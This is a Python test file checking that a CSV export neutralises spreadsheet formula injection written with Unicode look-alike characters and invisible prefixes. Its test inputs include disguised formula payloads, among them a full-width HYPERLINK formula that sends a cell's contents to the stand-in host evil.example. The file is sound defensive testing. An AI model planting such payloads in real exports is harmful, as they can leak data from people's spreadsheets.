"""CSV exports neutralise formulas in every Unicode spelling a spreadsheet may fold to one
(SPEC §6): full-width, small and super/subscript forms of `= + - @`, the minus sign, and
formulas behind leading spaces or invisible characters."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlmodel import col, select

from bot.interfaces.cli.csv_io import neutralise
from storage.engine import Sessions
from storage.models import Response
from tests.core.interfaces.test_cli_data import env as env  # the fixture
from tests.core.interfaces.test_cli_data import exported, on_db, run, seeded

FORMULA_CHARS = "=+-@\u2212"
# The characters that NFKC folds to a formula character, and look-alikes.
VARIANTS = "＝﹦⁼₌⩵＋﹢⁺₊－﹣⁻＠﹫\u2212"
INVISIBLE = " \u00a0\u3000\u2003\u200b\u200c\u200d\u2060\ufeff\u200e\u200f\u202e\u2066\x00\x0b"


def first_visible(text: str) -> str:
    for char in text:
        if not (char.isspace() or unicodedata.category(char) in {"Cf", "Cc", "Zs", "Zl", "Zp"}):
            return char
    return ""


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('＝HYPERLINK("http://x")', '\'＝HYPERLINK("http://x")'),
        ("﹦1+1", "'﹦1+1"),
        ("＋1 555", "'＋1 555"),
        ("﹢1", "'﹢1"),
        ("－5", "'－5"),
        ("﹣5", "'﹣5"),
        ("\u22125 stars", "'\u22125 stars"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("﹫SUM(A1)", "'﹫SUM(A1)"),
        ("⁼1", "'⁼1"),
        ("₊1", "'₊1"),
        ("⩵1", "'⩵1"),
        (" =1+1", "' =1+1"),
        ("\u00a0\u3000=1+1", "'\u00a0\u3000=1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\u200b@SUM(A1)", "'\u200b@SUM(A1)"),
        ("\u202e=1+1", "'\u202e=1+1"),
        ("=\u0338 combines to ≠", "'=\u0338 combines to ≠"),
        ("\nx", "'\nx"),
        ("Great help", "Great help"),
        ("≠ not a formula", "≠ not a formula"),
        ("a ＝ b", "a ＝ b"),
        ("–5 (an en dash)", "–5 (an en dash)"),
        ("   ", "   "),
        ("", ""),
        (["speed", "＝1"], "speed;＝1"),
        (["＝1"], "'＝1"),
    ],
)
def test_neutralise_unicode_variants(cell: object, written: str) -> None:
    assert neutralise(cell) == written


def test_every_character_that_folds_to_a_formula_character_is_neutralised() -> None:
    folding = [
        chr(code)
        for code in range(0x110000)
        if unicodedata.normalize("NFKC", chr(code))[:1] in FORMULA_CHARS
    ]
    assert set(VARIANTS) <= set(folding)  # the list above is right
    assert [c for c in folding if not neutralise(f"{c}1").startswith("'")] == []


cells = st.text(
    alphabet=st.one_of(
        st.characters(),
        st.sampled_from(FORMULA_CHARS + VARIANTS + INVISIBLE + "\t\r\n"),
    ),
    max_size=12,
)
# As the fuzzers (tests/fuzz/strategies.py): the same examples on every run, no database.
deterministic = settings(max_examples=2000, derandomize=True, database=None)


@deterministic
@given(cells)
def test_no_output_reads_as_a_formula_without_its_quote(cell: str) -> None:
    written = neutralise(cell)
    assert written in (cell, "'" + cell)
    if written.startswith("'"):  # a spreadsheet shows what follows the quote as text
        return
    for form in (written, unicodedata.normalize("NFKC", written)):
        assert first_visible(form) not in set(FORMULA_CHARS)
    assert not written.startswith(("\t", "\r", "\n"))


@deterministic
@given(cells)
def test_a_quote_is_added_only_to_what_could_be_a_formula(cell: str) -> None:
    if neutralise(cell).startswith("'") and not cell.startswith("'"):
        forms = (cell, unicodedata.normalize("NFKC", cell))
        assert cell.startswith(("\t", "\r", "\n")) or any(
            first_visible(form) in set(FORMULA_CHARS) for form in forms
        )


COMMENT = '＝HYPERLINK("http://evil.example/?"&A1, "help")'


def test_export_neutralises_a_full_width_formula_comment(env: dict[str, str]) -> None:
    seeded(env)

    async def rewrite(sessions: Sessions) -> None:
        async with sessions() as session, session.begin():
            first = (await session.exec(select(Response).order_by(col(Response.id)))).first()
            assert first is not None
            first.comment = COMMENT
            session.add(first)

    on_db(env["CXBOT_DATABASE_URL"], rewrite)
    result = run(env, "export")
    assert result.exit_code == 0, result.output
    comments = [row["comment"] for row in exported(result)]
    assert "'" + COMMENT in comments and COMMENT not in comments
